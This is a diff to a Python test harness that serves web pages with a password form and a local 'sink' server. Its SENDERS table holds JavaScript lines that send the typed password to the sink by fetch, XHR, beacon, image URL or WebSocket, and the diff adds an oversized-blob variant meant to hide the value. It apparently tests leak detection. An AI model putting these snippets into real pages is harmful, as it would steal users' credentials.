@@ -9,7 +9,7 @@ WebSocket's handshake and frames) and serves the hostile frame of the ``document
   /domain        a password form and a sink frame; both set ``document.domain`` (allowed with
                  ``Origin-Agent-Cluster: ?0``) and the frame reads the field on submit
   /script/HOW    the page's own script sends the field's value on submit by HOW: fetch, xhr,
-                 beacon, ws (WebSocket) or img (an image URL)
+                 beacon, img (an image URL), blob (a 2 MiB body) or ws (WebSocket)
 """
 
 from __future__ import annotations
@@ -40,6 +40,8 @@ SENDERS = {
     "xhr": "const x = new XMLHttpRequest(); x.open('POST', SINK + '/xhr'); x.send('p=' + encodeURIComponent(p));",
     "beacon": "navigator.sendBeacon(SINK + '/beacon', btoa(p));",
     "img": "new Image().src = SINK + '/i.png?p=' + encodeURIComponent(p);",
+    # 2 MiB before the value: a body too large for the browser to hand over (unreadable)
+    "blob": "fetch(SINK + '/blob', {method: 'POST', mode: 'no-cors', body: new Blob(['x'.repeat(2 << 20), p])});",
     "ws": "const w = new WebSocket(SINK.replace('http', 'ws') + '/ws'); w.onopen = () => w.send(p);",
 }
 
@@ -93,7 +95,7 @@ class Sink(Served):
 
             def do_POST(self) -> None:
                 body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
-                outer.received.append(("POST", self.path, body))
+                outer.received.append(("POST", self.path, body[-200:]))
                 _answer(self, "<h1>Thanks</h1>")
 
             def _websocket(self) -> None:
